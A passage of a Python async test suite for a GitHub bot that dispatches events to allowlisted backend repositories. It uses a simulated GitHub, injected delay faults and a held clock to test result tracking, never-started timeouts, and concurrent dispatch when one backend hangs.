    await github.push(L2, "main")
    await bot.settle()
    assert dispatched_to(github) == []


async def test_a_result_of_a_push_is_taken_and_a_silent_one_is_said_to_have_never_started(bot, github):
    await list_backends(
        bot, f"L2: [{{repo: {L2}, events: push}}, {{repo: {L3}, events: push, answers: all}}]"
    )
    await github.push(UPSTREAM)
    await bot.settle()
    assert (await bot.report(bot.dispatch(L2)))[0] == 200
    await bot.wait(24 * 3600 + 120)
    assert (await states(bot, L2), await states(bot, L3)) == (["sent"], ["never_started"])


# Speed


TOGETHER, HANGS = (
    101.0,
    102.0,
)  # seconds that GitHub seems to take: until ten are asked for, until all have been


class Held(SystemClock):
    """The machine's clock; who waits for such a time waits for an event instead."""

    def __init__(self):
        self.asked, self.together, self.everybody = 0, asyncio.Event(), asyncio.Event()

    async def sleep(self, seconds):
        self.asked += seconds == TOGETHER
        if self.asked >= 10:
            self.together.set()
        held = {TOGETHER: self.together, HANGS: self.everybody}.get(seconds)
        await (held.wait() if held else super().sleep(seconds))


async def test_twenty_dispatches_leave_together_though_one_backend_hangs(app_key, tmp_path, issuer):
    """GitHub answers none before ten are asked for, and those of one backend when all others have arrived."""
    names = [f"org-{number}/backend" for number in range(20)]
    (tmp_path / "allowlist.yml").write_text("L2: [slow/backend, {}]".format(", ".join(names)))
    clock = Held()
    github = harness.SimulatedGitHub(clock=clock)
    await github.start()
    app = github.register_app(webhook_url=None, webhook_secret=harness.SECRET, private_key_pem=app_key)
    for name in (UPSTREAM, "slow/backend", *names):
        github.add_repo(name)
    settings = harness.make_settings(github=github, issuer=issuer, app=app, folder=tmp_path)
    async with harness.running(settings, github=github, issuer=issuer, app=app, clock=clock) as bot:

        async def arrived(_dispatch):
            if set(dispatched_to(github)) >= set(names):
                clock.everybody.set()

        github.on_dispatch = arrived
        github.faults.add(method="POST", path="^/repos/slow/backend/", status=None, delay=HANGS, times=100)
        github.faults.add(method="POST", path="/dispatches$", status=None, delay=TOGETHER, times=100)
        worker = make_worker(bot.context)
        working = asyncio.create_task(worker.run())
        try:
            await bot.send("pull_request", opened(github))
            await asyncio.wait_for(clock.everybody.wait(), PATIENCE)
        finally:
            clock.together.set()
            clock.everybody.set()
            worker.stop()
            await working
            await github.stop()


def opened(github):
    """The body of a pull request's opening, without GitHub's own delivery of it."""
    repo = github.state.repo(UPSTREAM)
    return {
        "action": "opened", "number": 1, "repository": {"id": repo.id, "full_name": UPSTREAM, "private": False},
        "pull_request": {
            "id": 1, "number": 1, "title": "t", "state": "open", "author_association": "MEMBER", "labels": [],
            "head": {"sha": "a" * 40, "ref": "x"}, "base": {"sha": repo.branches["main"], "ref": "main"},
            "updated_at": "2026-11-01T00:00:00Z",
        },
    }  # fmt: skip
